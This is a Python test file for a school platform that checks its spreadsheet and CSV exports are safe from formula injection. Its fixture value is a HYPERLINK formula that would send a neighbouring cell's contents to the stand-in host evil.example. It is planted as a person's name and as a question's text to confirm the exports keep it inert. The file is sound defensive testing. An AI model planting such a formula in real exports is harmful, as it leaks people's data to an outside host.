"""Every export writes people's text as text: a name like ``=HYPERLINK(...)`` set through a
roster never becomes a formula, in a workbook or a CSV, and numbers and dates stay numbers and
dates (school/spreadsheets.py)."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets as wagtail_viewsets

from courses.models import Question, QuestionBank
from courses.services.question_import import export_bank
from school.scoping import ScopedViewsMixin
from school.spreadsheets import (
    FormulaSafeExportMixin,
    append_row,
    csv_value,
    is_formula_like,
    xlsx_cell,
)
from tests.factories import PersonFactory, UserFactory

EVIL = '=HYPERLINK("http://evil.example/?"&E2,"孟杰航")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A"]


@pytest.mark.parametrize("text", STARTS)
def test_text_that_a_spreadsheet_would_evaluate_is_marked(text):
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text
    cell = xlsx_cell(openpyxl.Workbook().active, text)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize(
    "value", [-5, 3.25, 0, datetime.date(2026, 3, 1), datetime.datetime(2026, 3, 1, 8, 0), True]
)
def test_numbers_and_dates_stay_numbers_and_dates(value):
    assert csv_value(value) == value
    cell = xlsx_cell(openpyxl.Workbook().active, value)
    assert cell.value == value and cell.data_type != "s"


def test_plain_text_is_left_as_typed():
    assert csv_value("林晓雨") == "林晓雨"
    cell = xlsx_cell(openpyxl.Workbook().active, "林晓雨 = 班长")
    assert cell.value == "林晓雨 = 班长" and not cell.quotePrefix


def test_control_characters_never_break_a_workbook():
    book = openpyxl.Workbook()
    append_row(book.active, ["a\x01b", EVIL])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet["A1"].value == "ab"
    assert sheet["B1"].value == EVIL and sheet["B1"].data_type == "s" and sheet["B1"].quotePrefix


def test_every_index_of_our_viewsets_exports_through_the_safe_writer():
    scoped = [
        viewset for viewset in wagtail_viewsets.viewsets if isinstance(viewset, ScopedViewsMixin)
    ]
    assert len(scoped) >= 10
    for viewset in scoped:
        index = viewset.index_view
        view_class = getattr(index, "view_class", None)
        assert view_class is not None and issubclass(view_class, FormulaSafeExportMixin), viewset


def cells(workbook_bytes: bytes):
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_inert(workbook_bytes: bytes, text: str = EVIL) -> None:
    found = [cell for cell in cells(workbook_bytes) if cell.value == text]
    assert found, "the text is in the workbook"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert not [cell for cell in cells(workbook_bytes) if cell.data_type == "f"]


@pytest.fixture
def evil_person(branch):
    return PersonFactory(
        user=UserFactory(username="2023000666", full_name=EVIL),
        organization=branch,
        birth_date=datetime.date(2005, 3, 1),
    )


def test_the_people_exports_of_the_admin_are_inert(client, admin, evil_person):
    client.force_login(admin)
    response = client.get(reverse("people:index") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [row[1] for row in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names
    assert "2005-03-01" in rows[1]  # dates as dates, not marked

    response = client.get(reverse("people:index") + "?export=xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert_inert(data)
    [birth] = [cell for cell in cells(data) if isinstance(cell.value, datetime.date)]
    assert birth.value == datetime.date(2005, 3, 1) and birth.data_type == "d"


def test_the_dossier_workbook_is_inert(client, admin, evil_person):
    client.force_login(admin)
    response = client.get(reverse("people:dossier", args=[evil_person.pk, "xlsx"]))
    assert response.status_code == 200
    assert_inert(b"".join(response.streaming_content) if response.streaming else response.content)


def test_the_bulk_verification_workbook_is_inert(client, admin, evil_person):
    client.force_login(admin)
    response = client.post(
        reverse("certificates:bulk_verify"), {"numbers": "2023000666\n=1+1", "export": "1"}
    )
    assert response.status_code == 200
    data = response.content
    assert_inert(data)
    assert_inert(data, "=1+1")  # the typed number that nobody has is echoed, inert


def test_the_question_bank_export_is_inert(db):
    bank = QuestionBank.objects.create(name="题库")
    Question.objects.create(
        bank=bank, kind="short_answer", text=EVIL, reference_answer="@SUM(A1)", points=2
    )
    data = export_bank(bank)
    assert_inert(data)
    assert_inert(data, "@SUM(A1)")
